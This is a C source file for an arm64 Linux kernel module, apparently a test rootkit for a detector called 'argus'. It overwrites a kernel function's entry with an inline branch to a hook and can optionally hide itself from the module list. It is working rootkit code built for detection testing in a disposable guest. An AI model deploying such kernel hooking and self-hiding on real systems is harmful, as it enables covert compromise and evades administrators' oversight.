// SPDX-License-Identifier: GPL-2.0
/*
 * hookinl64 - an arm64 test rootkit for argus's Kernel Text Modified: an
 * inline hook written over the first instructions of a kernel function
 * (the AArch64 counterpart of ../hookinl.c).
 *
 * insmod hookinl64.ko [sym=__arm64_sys_sysinfo] [at=0] [far=0] [hide=0]
 * writes, at sym+at (4-aligned), `b hook` when the hook is within the
 * branch's +-128 MiB and far=0, else `ldr x16, #8; br x16; .quad hook`
 * (16 bytes: the literal's words first, the ldr last), one instruction at
 * a time with the kernel's own aarch64_insn_patch_text_nosync (found with
 * kallsyms_lookup_name, itself found with a kprobe: rkit64.h).  The hook
 * counts its calls (parameter hits) and returns -EPERM.  at=0 writes over
 * the function's entry (`mov x9, x30` and the ftrace NOP); at=4 over the
 * ftrace NOP and what follows; a larger `at` into the function's middle:
 * a function never called (sym=__arm64_sys_acct), or the guest crashes.
 * With hide=1 the module then hides itself (rkit64.h).  With within=N
 * (> 0, 4-aligned) it writes `b sym+N` instead, a branch that stays in
 * the function (skipping what lies between), as a jump label's would:
 * over a NOP (at=4 is ftrace's) the shape of the kernel's own writes, but
 * at no site of the kernel's table of jump labels.
 *
 * rmmod (or echo 1 >/proc/hookinl64 when hidden) puts the words back, the
 * first one first.  The parameters site, handler and len tell the test
 * where, what and how much was written.  For testing only; loaded in a
 * disposable test guest.
 */
#include <linux/proc_fs.h>

#include "../rkit.h"

static char *sym = "__arm64_sys_sysinfo";
module_param(sym, charp, 0444);
static int at;
module_param(at, int, 0444);
static int far;
module_param(far, int, 0444);
static int hide;
module_param(hide, int, 0444);
static int within;
module_param(within, int, 0444);
static ulong hits;
module_param(hits, ulong, 0444);
static ulong site, handler;	/* for the test */
module_param(site, ulong, 0444);
module_param(handler, ulong, 0444);
static int len;			/* bytes written */
module_param(len, int, 0444);

static u32 saved[4];
static bool patched;
static int (*patch)(void *addr, u32 insn);

static long hook(const struct pt_regs *regs)
{
	hits++;
	return -EPERM;
}

static void unpatch(void)
{
	if (patched)
		for (int i = 0; i < len / 4; i++)
			patch((void *)(site + 4 * i), saved[i]);
	patched = false;
}

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t n, loff_t *off)
{
	unpatch();
	rkit_unhide();
	pr_info("hookinl64: words put back, module listed\n");
	return n;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hookinl64_init(void)
{
	unsigned long fn = rkit_lookup(sym);
	u32 code[4];
	long rel;

	patch = (void *)rkit_lookup("aarch64_insn_patch_text_nosync");
	if (!fn || !patch)
		return -ENOENT;
	if ((at & 3) || (within & 3) || within < 0)
		return -EINVAL;
	site = fn + at;
	handler = within ? fn + within : (ulong)hook;
	rel = (long)handler - (long)site;
	if (!far && rel >= -(1L << 27) && rel < (1L << 27)) {
		code[0] = 0x14000000 | ((u32)(rel >> 2) & 0x03ffffff);	/* b hook */
		len = 4;
	} else {
		code[0] = 0x58000050;	/* ldr x16, #8 */
		code[1] = 0xd61f0200;	/* br x16 */
		code[2] = (u32)handler;
		code[3] = (u32)(handler >> 32);
		len = 16;
	}
	memcpy(saved, (void *)site, len);
	if (hide && !proc_create("hookinl64", 0200, NULL, &ctl_ops))
		return -ENOMEM;
	for (int i = len / 4 - 1; i >= 0; i--)
		if (patch((void *)(site + 4 * i), code[i]))
			pr_err("hookinl64: cannot write at %lx\n", site + 4 * i);
	patched = true;
	pr_info("hookinl64: %s+%d at %lx: %s %lx\n", sym, at, site, len == 4 ? "b" : "ldr/br",
		handler);
	if (hide && rkit_hide()) {
		unpatch();
		remove_proc_entry("hookinl64", NULL);
		return -ENOENT;
	}
	return 0;
}

static void __exit hookinl64_exit(void)
{
	unpatch();
	if (hide)
		remove_proc_entry("hookinl64", NULL);
}

module_init(hookinl64_init);
module_exit(hookinl64_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: an inline branch at an arm64 kernel function's entry");
